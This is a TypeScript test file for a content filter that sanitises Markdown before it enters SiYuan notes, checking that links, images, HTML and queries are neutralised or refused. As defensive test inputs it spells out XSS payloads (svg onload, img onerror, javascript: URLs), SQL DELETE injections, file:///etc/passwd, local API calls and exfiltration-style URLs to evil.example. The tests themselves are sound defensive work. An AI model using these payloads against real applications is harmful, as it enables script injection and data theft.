import { type ChildNode, type Element, isTag } from 'domhandler';
import fc from 'fast-check';
import { parseDocument } from 'htmlparser2';
import { describe, expect, it } from 'vitest';
import { runCount } from '../../../tests/support/property-runs.ts';
import { allBlocks, blockId, isBlockId, parseBlocks, plainText } from '../blocks/block-dom.ts';
import { testEngine } from '../testing/lute.ts';
import { imageKey, linkKey } from './active-content.ts';
import { createContentFilter, type FilterRequest, MAX_MARKDOWN_CHARS } from './content-filter.ts';
import { ALLOWED_BLOCKS, ALLOWED_TAGS } from './content-rules.ts';

const engine = testEngine();
const filter = createContentFilter({ engine, clock: { now: () => 1_790_000_000_000, today: () => '2026-09-21' }, random: Math.random });
const KNOWN = '20200101000000-aaaaaaa';
const FOREIGN = '20200101000000-bbbbbbb';
const run = (markdown: string, extra: Partial<FilterRequest> = {}) =>
  filter.filter({ markdown, knownReferences: async (ids) => new Set(ids.filter((id) => id === KNOWN)), ...extra });
const dom = async (markdown: string): Promise<string> => (await run(markdown)).blocks.join('');
const refusal = (markdown: string): Promise<string> =>
  run(markdown).then(
    () => 'accepted',
    (error: unknown) => String(error),
  );
const read = async (markdown: string): Promise<string> => engine.toMarkdown(await dom(markdown));

const elementsOf = (node: { children: ChildNode[] }): Element[] =>
  node.children.flatMap((child) => (isTag(child) ? [child, ...elementsOf(child)] : []));

it.each([
  ['/scripts', true],
  ['/other%20folder/note.md#Part', true],
  ['obsidian://show-plugin?id=x', true],
  ['zotero://select/items/1_AB', true],
  ['javascript://x/%0aalert(1)', false],
  ['JavaScript://x', false],
  ['siyuan://plugins/x', false],
  ['file:///etc/passwd', false],
  ['javascript:alert(1)', false],
  ['java&#115;cript:alert(1)', false],
  ['//a.example/x', false],
])('keeps the address %s of a link in the note already: %s', async (address, stays) => {
  const text = `[a](${address})`;
  const href = /data-href="([^"]*)"/.exec(engine.toDom(text))?.[1] ?? '';
  const existing = new Set([linkKey(href), linkKey(address)]);
  expect((await run(text, { existing })).blocks.join('').includes('data-href')).toBe(stays);
  expect(await dom(text)).not.toContain('data-href');
});

describe('a block that begins like a task', () => {
  // SiYuan's editor puts its text into the page decoded, at the first letter that is typed in it.
  const begun = (block: string): boolean => /<div contenteditable="true"[^>]*>(?:[[【].?[\]】])/.test(block);

  it.each([
    ['[x]: <svg onload=a()>', '[x]: <svg onload=a()>'],
    ['[1] &lt;img src=x onerror=a()>', '[1] <img src=x onerror=a()>'],
    ['# [] `<img src=x onerror=a()>`', '[] <img src=x onerror=a()>'],
    ['> 【】 `<img src=x>` quoted', '【】 <img src=x> quoted'],
    ['- one\n\n  [a](&lt;img src=x onerror=a()>', '[a](<img src=x onerror=a()>'],
  ])('does not where it holds HTML: %s', async (markdown, words) => {
    const written = await dom(markdown);
    expect(begun(written)).toBe(false);
    expect(parseBlocks(written).map(plainText).join('\n')).toContain(words);
  });

  it.each(['[1] A source, 2020', '[x] done & dusted', '[] a < b'])('stays as it is where it holds none: %s', async (markdown) => {
    expect(begun(await dom(markdown))).toBe(true);
  });
});

describe('what is written as code', () => {
  it.each([
    '{{//!js_esc_newline_alert(1)}}',
    '{{DELETE FROM blocks RETURNING *}}',
    '{{SELECT 1; DELETE FROM blocks}}',
    '{{{row\n{{//!js_esc_newline_x}}\n\ntext\n}}}',
    '> {{//!js_esc_newline_x}}',
    '- {{//!js_esc_newline_x}}',
    '<div onclick="x()">x</div>',
    '<iframe src="https://example.com"></iframe>',
    '<iframe src="/widgets/x" data-subtype="widget"></iframe>',
    '<video src="https://example.com/a.mp4"></video>',
    '<audio src="https://example.com/a.mp3"></audio>',
  ])('%s', async (markdown) => {
    const { blocks, notices } = await filter.filter({ markdown, knownReferences: async () => new Set() });
    expect(notices).toContainEqual({ code: 'shown-as-code', count: 1 });
    expect(blocks.join('')).not.toMatch(
      /NodeHTMLBlock|NodeIFrame|NodeVideo|NodeAudio|NodeWidget|NodeBlockQueryEmbed|<iframe|<video|<audio/,
    );
    expect(blocks.join('')).toContain('NodeCodeBlock');
  });
});

describe('what is refused', () => {
  it.each([
    `<div data-type="NodeAttributeView" data-av-id="${KNOWN}" data-av-type="table"></div>`,
    '```echarts\n{series:[fetch("http://x")]}\n```',
    '```ECharts\n{}\n```',
    '```abc\n%%params alert(1)\nX:1\n```',
    '```plantuml\nsecret\n```',
    '```mermaid\ngraph TD\nA["<img src=http://x>"]\n```',
    '```mermaid\ngraph TD\nclick A call alert()\n```',
    '```mermaid\n%%{init: {}}%%\ngraph TD\n```',
    '```mermaid\nflowchart TD\nA@{ img: "x" }\n```',
    '$$\n\\includegraphics{http://x/a.png}\n$$',
    'inline $\\href{javascript:alert(1)}{x}$ math',
  ])('%s', async (markdown) => {
    expect(await refusal(markdown)).toMatch(/^unsafe_markdown: .+ → .+/);
  });

  it.each(['![**\u00ad**{: id="]()>"}', '**~~<span data-type="" d=""></span>~~**{: id="\\"}'])(
    'says so where SiYuan’s parser breaks on the text, or on what it made of it: %s',
    async (markdown) => {
      expect(await refusal(markdown)).toMatch(/unsafe_markdown: SiYuan’s Markdown parser breaks on this text → .+/);
    },
  );

  it('says when blocks stand in each other deeper than SiYuan can bear', async () => {
    const list = (levels: number): string => Array.from({ length: levels }, (_, level) => `${'  '.repeat(level)}- x`).join('\n');
    expect(await refusal(list(31))).toBe('accepted');
    for (const deep of [list(33), `${'>'.repeat(70)} x`, `${'{{{row\n'.repeat(70)}x\n\ny\n${'}}}\n'.repeat(70)}`])
      expect(await refusal(deep)).toMatch(/^too_large: .+ → .+/);
  });

  it('says when there is nothing or too much', async () => {
    expect(await refusal(' \n\u200b')).toMatch(/^empty_text/);
    expect(await refusal('{: id="x"}')).toMatch(/^empty_text/);
    expect(await refusal('a'.repeat(MAX_MARKDOWN_CHARS + 1))).toMatch(/^too_large/);
  });
});

describe('what is kept', () => {
  it.each([
    'para **b** *e* ~~s~~ ==m== `c` <u>u</u> <kbd>k</kbd> #tag# $x^2$',
    '# Head',
    '- a\n\n  - b',
    '- [ ] open\n- [X] done',
    '1. x\n2. y',
    '> quote',
    '```js\nlet a = "<iframe>";\n```',
    '```mermaid\ngraph TD\n  A[one] --> B[two]\n```',
    '$$\nx^2\n$$',
    '---',
    "{{SELECT * FROM blocks WHERE type = 'h' LIMIT 3}}",
    '[a](https://example.com/x?y=1) [b](mailto:a@b.c) [c](assets/x.pdf)',
    `[open](siyuan://blocks/${KNOWN})`,
    '![alt](assets/x.png)',
    `see ((${KNOWN} "the anchor"))`,
    'price < 5 & > 3 "quoted"',
  ])('%s', async (markdown) => {
    expect(await read(markdown)).toBe(markdown);
    expect((await run(markdown)).notices).toEqual([]);
  });

  it.each(['Use `<b>` for bold', 'x `<em>` y `</em>` z', '`` a`<u>b `` and <u>this</u>', 'tag `<kbd>`, then `<div>`'])(
    'keeps the tags in the code of %s',
    async (markdown) => {
      expect((await read(markdown)).replaceAll('\u200b', '').trim()).toBe(markdown);
    },
  );

  it.each([
    '```md\n> [!faq]- Fold?\n> yes\n```',
    '~~~md\n> [!a<b>]+\n~~~',
    '- item\n\n  ```\n  > [!tip]+ T\n  ```',
    '> ```\n> > [!tip]- T\n> ```',
  ])('keeps in code what reads like the head of a callout: %j', async (markdown) => {
    const [head = ''] = /\[!.*/.exec(markdown) ?? [];
    expect(await read(markdown)).toContain(head);
    expect(await read(`> [!tip]- T\n> text\n\n${markdown}`)).toMatch(/^> \[!tip\] T\n/);
  });

  it('keeps tables, callouts and super blocks as blocks', async () => {
    const kinds = (await run('| a | b |\n|-|-|\n| 1 | 2 |\n\n> [!NOTE] title\n> body\n\n{{{row\na\n\nb\n}}}')).blocks.map(
      (block) => parseBlocks(block)[0]?.attribs['data-type'],
    );
    expect(kinds).toEqual(['NodeTable', 'NodeCallout', 'NodeSuperBlock']);
  });
});

describe('what is changed', () => {
  it('writes no super block that holds nothing, and refuses what is nothing else', async () => {
    expect(await refusal('{{{row\n\n}}}')).toMatch(/^empty_text/);
    const kinds = (await run('before\n\n{{{row\n{{{col\n\n}}}\n}}}\n\nafter')).blocks.map(
      (block) => parseBlocks(block)[0]?.attribs['data-type'],
    );
    expect(kinds).toEqual(['NodeParagraph', 'NodeParagraph']);
  });

  it.each(['**', '*', '==', '~~'])('writes the words of a picture once, also inside %s', async (mark) => {
    const plain = (await dom('![words](assets/a.png "title")')).replaceAll(/data-node-id="[^"]*"/g, '');
    expect((await dom(`${mark}![words](assets/a.png "title")${mark}`)).replaceAll(/data-node-id="[^"]*"/g, '')).toBe(plain);
  });

  it('gives every block an id of ours, whatever the text says', async () => {
    const result = await dom(
      `para\n{: id="${FOREIGN}" custom-x="1" onclick="x()" style="position:fixed"}\n\n- item\n  {: id="${FOREIGN}"}`,
    );
    expect(result).not.toContain(FOREIGN);
    expect(result).not.toMatch(/custom-x|onclick|position/);
    const ids = parseBlocks(result).flatMap(allBlocks).map(blockId);
    expect(ids.every(isBlockId)).toBe(true);
    expect(new Set(ids).size).toBe(ids.length);
    expect((await run('para\n{: custom-x="1" memo="m"}')).notices).toEqual([{ code: 'attribute-dropped', count: 2 }]);
  });

  it('keeps the text after a leading attribute list', async () => {
    expect(await read('{: id="20200101000000-aaaaaaa" custom-a="b"}\n\nthe text')).toBe('the text');
  });

  it('fences YAML front matter', async () => {
    expect(await read('---\ntitle: x\ntags: [a]\n---\n\nbody')).toBe('```yaml\ntitle: x\ntags: [a]\n```\n\nbody');
    expect((await run('---\ntitle: x\n---\nbody')).notices).toEqual([{ code: 'front-matter-fenced', count: 1 }]);
    expect(await read('---\n\nnot front matter')).toBe('---\n\nnot front matter');
    // Indented lines could be read in several ways each: twice as many with each line.
    expect((await run(`---\n${'    - a\n'.repeat(40)}body`)).notices).toEqual([]);
  });

  it('turns remote images into links and fetches nothing', async () => {
    const result = await run(
      '![shot](http://evil.example/?d=secret) and ![x](//evil.example/y.png)\n\n| a |\n|-|\n| ![t](https://e.x/i.png) |',
    );
    expect(result.notices).toEqual([{ code: 'remote-image-linked', count: 3 }]);
    expect(result.blocks.join('')).not.toMatch(/<img/);
    expect(engine.toMarkdown(result.blocks.join(''))).toContain('[shot](http://evil.example/?d=secret)');
  });

  it('takes local requests out of images', async () => {
    const result = await dom(
      '![a](/api/system/exit) ![b](file:///etc/passwd) ![c](assets/../../conf/conf.json) ![d](data:image/svg+xml;base64,PHN2Zz4=)',
    );
    expect(result).not.toMatch(/<img|data-href/);
  });

  it('leaves an image that stands in the block already', async () => {
    const existing = new Set([imageKey('http://a.example/x.png')]);
    const result = await run('![x](http://a.example/x.png)', { existing });
    expect(result.notices).toEqual([]);
    expect(result.blocks.join('')).toContain('src="http://a.example/x.png"');
  });

  it.each([
    'javascript:alert(1)',
    'java script:alert(1)',
    'vbscript:x',
    'data:text/html,x',
    'file:///etc/passwd',
    'siyuan://plugins/x',
    'JAVASCRIPT:x',
  ])('neutralises a link to %s', async (href) => {
    const result = await run(`[text](<${href}>)`);
    expect(result.blocks.join('')).not.toContain('data-href');
    expect(engine.toMarkdown(result.blocks.join(''))).toContain('text');
    expect(result.notices).toEqual([{ code: 'link-neutralised', count: 1 }]);
  });

  it('turns references to blocks that are not there into their text', async () => {
    const result = await run(`see ((${FOREIGN} "ghost")) and ((${KNOWN} "real"))`);
    expect(engine.toMarkdown(result.blocks.join(''))).toBe(`see ghost and ((${KNOWN} "real"))`);
    expect(result.notices).toEqual([{ code: 'unknown-reference', count: 1 }]);
  });

  it.each(['style', 'script', 'textarea', 'title', 'xmp', 'plaintext', 'b', '!--'])(
    'keeps the listing where its language is <%s>',
    async (tag) => {
      expect(await read(`\`\`\`<${tag}>x\nkept\n\`\`\``)).toContain('```\nkept\n```');
    },
  );

  it('drops inline styles', async () => {
    const result = await run('**b**{: style="background:url(http://x)" onclick="y"} text');
    expect(result.blocks.join('')).not.toMatch(/style=|onclick/);
    expect(result.notices).toEqual([{ code: 'attribute-dropped', count: 2 }]);
  });
});

describe('hostile text', () => {
  const pieces = fc.constantFrom(
    '{{',
    '}}',
    '//!js',
    '_esc_newline_',
    '{: ',
    '}',
    'id="20200101000000-bbbbbbb"',
    'onclick="x"',
    'style="a"',
    'custom-ai-access=""',
    '\n',
    '\n\n',
    '    ',
    '<',
    '>',
    '</',
    '<div>',
    '<iframe src="http://x">',
    '</iframe>',
    '<span data-type="a" data-href="javascript:1">',
    '<span data-type="img">',
    '</span>',
    '<img src="http://x/?d=1" onerror="x">',
    '![',
    '](',
    ')',
    'http://x/?d=1',
    'javascript:x',
    '[',
    ']',
    '((',
    '))',
    '20200101000000-bbbbbbb',
    ' "t"',
    "'t'",
    '`',
    '```',
    '```echarts\n',
    '```\n',
    '~~~',
    '$',
    '$$',
    '\\href{x}',
    '- ',
    '1. ',
    '* [ ] ',
    '> ',
    '# ',
    '|',
    '|-|',
    '{{{row\n',
    '}}}',
    '**',
    '*',
    '==',
    '~',
    '#',
    'text',
    '思',
    '‸',
    '\u200b',
    '&lt;',
    '&#106;',
    '<protyle-html data-content="x">',
    '<u onclick=1>',
    '<kbd>',
    '<!--',
    '-->',
    '<script>',
    '---\n',
    'a: b\n',
    '<br>',
    '<svg onload=x>',
    'SELECT 1',
  );
  const texts = fc.array(pieces, { minLength: 1, maxLength: 24 }).map((parts) => parts.join(''));

  it('never leaves anything that runs, fetches or names a foreign id', async () => {
    let accepted = 0;
    await fc.assert(
      fc.asyncProperty(texts, async (markdown) => {
        let blocks: readonly string[];
        try {
          blocks = (await run(markdown)).blocks;
        } catch (error) {
          expect(String(error)).toMatch(/^(unsafe_markdown|empty_text): /);
          return;
        }
        accepted += 1;
        for (const element of elementsOf(parseDocument(blocks.join('')))) {
          expect(ALLOWED_TAGS).toContain(element.name);
          for (const [name, value] of Object.entries(element.attribs)) {
            expect(name).not.toMatch(/^(on|custom-|href$)/);
            if (name === 'style') expect(value).toBe('flex: 1');
            if (['src', 'data-src', 'xlink:href'].includes(name)) expect(value).toMatch(/^(#icon|assets\/|\/?emojis\/)/);
            if (name === 'data-href') expect(value).not.toMatch(/^\s*(javascript|data|file|vbscript):/i);
            if (name === 'data-id' || name === 'data-node-id') expect(value).not.toBe(FOREIGN);
            if (name === 'data-content')
              expect(`${element.attribs['data-type']} ${value}`).not.toMatch(/^NodeBlockQueryEmbed (?!select )/i);
          }
        }
        const parsed = blocks.flatMap(parseBlocks).flatMap(allBlocks);
        expect(parsed.every((block) => ALLOWED_BLOCKS.has(block.attribs['data-type'] ?? ''))).toBe(true);
        expect(new Set(parsed.map(blockId)).size).toBe(parsed.length);
      }),
      { numRuns: runCount(300, 1500) },
    );
    expect(accepted).toBeGreaterThan(runCount(100, 500));
  });
});
